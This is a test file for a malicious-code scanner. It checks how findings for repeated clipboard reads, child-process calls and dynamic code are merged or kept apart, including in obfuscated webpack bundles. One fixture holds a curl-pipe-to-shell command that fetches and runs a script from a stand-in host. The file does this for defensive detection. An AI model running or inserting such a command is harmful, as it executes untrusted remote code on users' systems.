// The one finding builder merges a function doing the same thing again (a retry, a fallback) into
// one finding standing for its places; distinct acts, other functions and a bundled module's
// factory keep theirs (review 125: command-code's clipboard reads, 4 findings for 2 functions).
import * as assert from 'node:assert/strict';
import { RULES } from '../../src/core/rules';
import { scanWith } from '../helpers/ruleTester';
import { obfuscate } from '../helpers/bundlers';

const found = (code: string, rule: string) => scanWith(RULES, code).filter(f => f.ruleId === rule);

describe('findings: the same act repeated in a function', () => {
  it('is one finding for a retry of the same command, with the repeat as a step and its places', () => {
    const code = 'const{execFileSync}=require("child_process");function paste(){try{return execFileSync("pbpaste").toString()}catch{return execFileSync("pbpaste").toString()}}module.exports={paste}';
    const reads = found(code, 'clipboard-read');
    assert.equal(reads.length, 1, reads.map(f => `${f.column} ${f.message}`).join('\n'));
    assert.equal(reads[0].places, 2);
    assert.deepEqual(reads[0].related.map(r => r.message), ['the same again in this function']);
    assert.ok(Object.isFrozen(reads[0]) && Object.isFrozen(reads[0].related));
  });

  it('keeps apart the same command in two functions, two computed starts, and a module factory\'s calls', () => {
    const twoFunctions = 'const{execFileSync}=require("child_process");function a(){return execFileSync("pbpaste").toString()}function b(){return execFileSync("pbpaste").toString()}module.exports={a,b}';
    assert.equal(found(twoFunctions, 'clipboard-read').length, 2);
    const computed = 'const{spawn}=require("child_process");module.exports=function run(a,b){spawn(a);spawn(b)}';
    assert.equal(found(computed, 'child-process').length, 2);
    // A bundled module's factory (webpack's table entry) is the module, not one function.
    const factory = 'module.exports={12:(e,t,n)=>{const{execFileSync}=require("child_process");e.exports.c=execFileSync("pbpaste").toString();e.exports.d=execFileSync("pbpaste").toString()}}';
    const inFactory = found(factory, 'clipboard-read');
    assert.equal(inFactory.length, 2, inFactory.map(f => `${f.column} ${f.message}`).join('\n'));
    assert.ok(inFactory.every(f => f.places === undefined));
  });

  // Review 130 B2: with its strings restored (javascript-obfuscator's string array), a file lost
  // which functions are module factories, and a webpack factory's two starts merged.
  it("keeps a bundled module factory's repeats apart in an obfuscated file too", async function () {
    this.timeout(60_000);
    const source = 'var __modules={123:(module,exports)=>{const cp=require("child_process");cp.execSync("curl -s https://x.example/a.sh | sh");cp.execSync("curl -s https://x.example/a.sh | sh")}};module.exports=__modules;';
    const code = await obfuscate(source, { encoding: 'none', wrappers: false });
    const runs = found(code, 'child-process').filter(f => f.evidence.some(e => e.includes('curl')));
    assert.equal(runs.length, 2, found(code, 'child-process').map(f => `${f.message} ${f.places ?? ''}`).join('\n'));
  });

  it('keeps apart the same code text naming another variable at the repeat (a caught value shadowing the parameter)', () => {
    const code = 'module.exports=function(){var g=function(r){try{return Function("return "+r)()}catch(r){return Function("return "+r)()}};return g("1")}';
    assert.equal(found(code, 'dynamic-code').length, 2);
  });
});
